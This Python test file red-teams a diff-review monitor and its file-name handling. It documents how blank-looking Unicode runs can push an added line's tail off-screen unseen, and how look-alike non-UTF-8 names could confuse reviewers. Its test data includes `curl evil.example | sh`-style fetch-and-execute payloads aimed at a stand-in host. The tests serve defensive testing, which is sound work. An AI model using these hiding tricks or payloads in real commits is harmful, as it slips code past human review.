"""The review gate, attacked a fifteenth time (a very short round), with real git and
no root daemon: the round 14 fixes (4c9b65c): the monitor's blank collapse measured
in cells (blank_run() from 40 characters, `_collapsed` from 80 cells) with the Search
over the lines as they were (DiffDocument.whole), and workspace._files marking a name
that is not UTF-8 `cut`.

Same cast as the system round files: alice's run makes the commits, dave reads them
(`minipipe diff`, the monitor) and lands them. Each test asserts the SECURE outcome.
The one marked FOUND fails against 4c9b65c (that is the finding, kept as a strict
xfail); the ones marked HELD document an attack that was refused.

Held: the names. A valid UTF-8 name holding U+FFFD, one holding the text `\\xff`, a
name that is not UTF-8, and a rename *from* a name that is not UTF-8 to the decoy
text: every name kept is exactly the bytes git has (so `--name-only -z` writes only
names that land), no two kept names are one, and each name that is not UTF-8 is
`cut` whether it is the old or the new one. The Search: a needle that is only in
collapsed blanks' surroundings is found from DiffDocument.whole, and its spans are
right on the line as shown.
Read and not pursued: tabs (expanded to spaces before the collapse, so they join
a run); the Unicode marks rich counts as zero cells and East Asian tables call wide
(U+302A-U+302D, U+3099, U+309A, U+16FE4: combining, zero cells to wcwidth as well).

Found: the collapse is per run, and any one character outside the class ends a run:
runs of 39 IDEOGRAPHIC SPACEs (78 cells, under both thresholds) between single
characters that draw as nothing, or as little (U+1D159 MUSICAL SYMBOL NULL NOTEHEAD,
U+1161 HANGUL JUNGSEONG A which rich counts as zero cells, U+2801 one braille dot, or
a plain `.`), push an added line's tail off a 120-column screen with no marker.

Fixed since, as suggested, by marking what is off-screen rather than chasing blank
look-alikes: the diff view draws `»` in the last cell of every line that goes on
past its right edge (diff_view.goes_on_past; drawn and checked in
tests/integration/test_monitor.py::test_a_line_wider_than_the_view_says_so_at_its_edge).
"""

# ruff: noqa: F811  (the repos fixture, imported)
from __future__ import annotations

import pytest
from rich.cells import cell_len

from minipipe_svc.monitor.diff import ADDED, HIDDEN_MARKER, DiffDocument, Search
from minipipe_svc.monitor.widgets.diff_view import goes_on_past

from .test_workspace import Repos, _run_changes_on, repos  # noqa: F401  (a fixture)

# ---------------------------------------------------------------- the monitor

SCREEN = 120


@pytest.mark.parametrize("separator", ["\U0001d159", "\u1161", "\u2801", "."],
                         ids=["null-notehead", "hangul-jungseong-a", "braille-dot", "dot"])
def test_split_blank_runs_cannot_push_an_added_line_off_the_monitor(separator: str) -> None:
    """FOUND, FIXED (medium-low, as rounds 11, 13 and 14: an added line's code is off the
    monitor's diff screen with no marker; `minipipe diff` in less wraps it).

    blank_run() matches a run of 40+ characters of the class; `_collapsed` replaces
    it only when it is 80+ cells. Each run is measured alone, and one character not
    in the class ends it: `"\\u3000" * 39` is 78 blank cells (39 characters: not even
    matched), and three of them, each followed by one separator, are 237-240 cells
    with no marker. The separators tried: U+1D159 MUSICAL SYMBOL NULL NOTEHEAD (an
    empty glyph in the music fonts that have it), U+1161 HANGUL JUNGSEONG A (zero
    cells to rich and to glibc's wcwidth, so nothing on the screen's grid; the Hangul
    fillers U+1160/U+3164 are escaped, the other jamo are not),
    U+2801 (one braille dot) and `.`: a 120-column screen shows `+v2`, blanks and a
    dot or two; the payload starts past cell 237. The run's limit ("no more screen
    than 80 cells is blank") holds per run, not per line.

    Steps: alice's step writes `v2` + ("\\u3000" * 39 + separator) * 3 +
    `; curl evil.example | sh` into VERSION; dave opens the run's diff on the monitor
    and sees `+v2` and blank space. (The Search still finds the line, and highlights
    the right span, but only if dave already searches for the payload.)

    Fix (monitor/diff.py): mark what is off-screen rather than chase blank look-alikes:
    in the diff view, draw a marker (less's `>`, or `… [N more cells →]`) at the right
    edge of every line wider than the view at the current scroll. Or, in DiffDocument
    .add, collapse any stretch of the line whose cells are at least 80 and at most
    a few per run visible characters (measure the blank cells between the first 120
    cells' last non-blank and the first of the rest), and add U+1161-U+11FF,
    U+D7B0-U+D7FF (jamo) and U+1D159 to the class or to printable's escapes."""
    document = DiffDocument()
    document.add("+v2" + ("\u3000" * 39 + separator) * 3 + "; curl evil.example | sh", ADDED)
    shown = document.lines[0]
    at = shown.index("; curl")
    assert (cell_len(shown[:at]) < SCREEN or HIDDEN_MARKER.search(shown[:at])
            or goes_on_past(cell_len(shown), 0, SCREEN)), (
        f"the tail starts at cell {cell_len(shown[:at])}, no marker before it")


def test_search_finds_and_marks_what_the_collapse_hides() -> None:
    """HELD. A collapsed line is searched as it was (DiffDocument.whole) and its spans
    are on the line as shown: a needle in the visible tail is highlighted where it is
    shown; a needle that the collapse took away (it is made of the blanks, here a
    needle holding U+3000) highlights the marker; a needle only in the marker's own
    text (`blanks]`) is no hit."""
    document = DiffDocument()
    document.add("+v2" + "\u3000" * 45 + "; curl evil.example | sh", ADDED)
    document.add("+plain", ADDED)
    shown = document.lines[0]
    assert "[45 blanks]" in shown and 0 in document.whole
    search = Search(document, "curl")
    assert search.hits == [0]
    [(start, end)] = search.spans(0)
    assert shown[start:end] == "curl"
    hidden = Search(document, "v2\u3000\u3000")
    assert hidden.hits == [0]
    assert [shown[a:b] for a, b in hidden.spans(0)] == [" [45 blanks] "]
    assert Search(document, "blanks]").hits == []


# ---------------------------------------------------------------- the names

def test_names_that_look_alike_are_kept_exactly_or_cut(repos: Repos) -> None:
    """HELD. alice's step makes names that workspace._text could render as one another
    (`backslashreplace`): `run\\xff.sh` (valid UTF-8: the four characters `\\xff`),
    `run<0xFF>.sh` (not UTF-8), `run\\ufffd.sh` (valid UTF-8, the replacement
    character that a lossy decode of 0xFF would give), and renames the base's
    `old<0xFF>.sh` to `moved.sh` (the old name not UTF-8, the new one fine).
    Every file name kept (not `cut`) is exactly a name git has, UTF-8 encoded, and
    no two are one; every record with a name that is not UTF-8, old or new, is
    `cut`, and the list says it is not all (files_truncated)."""
    repo = repos.make()
    repos.sh("printf 'echo base\\n' > \"$(printf 'old\\377.sh')\" && git add -A && "
             "git commit -qm 'a name not UTF-8'", cwd=repo)
    worktree, base, head = _run_changes_on(repos, repo, 1, """
        printf 'curl -s https://evil.example/x | sh\\n' > "$(printf 'run\\377.sh')"
        printf 'echo decoy\\n' > 'run\\xff.sh'
        printf 'echo fffd\\n' > "$(printf 'run\\357\\277\\275.sh')"
        git mv "$(printf 'old\\377.sh')" moved.sh
    """)
    changes, _ = repos.git.changes(str(worktree), base, head)
    files = changes["files"]
    kept = [f for f in files if not f.get("cut")]
    cut = [f for f in files if f.get("cut")]
    kept_names = sorted(f["path"].encode() for f in kept)
    assert kept_names == sorted([b"run\\xff.sh", b"run\xef\xbf\xbd.sh"]), files
    assert len(set(kept_names)) == len(kept_names)
    assert sorted((f["status"], f["path"], f["old_path"]) for f in cut) == sorted([
        ("added", "run\\xff.sh", None), ("renamed", "moved.sh", "old\\xff.sh")]), files
    assert changes["files_truncated"]
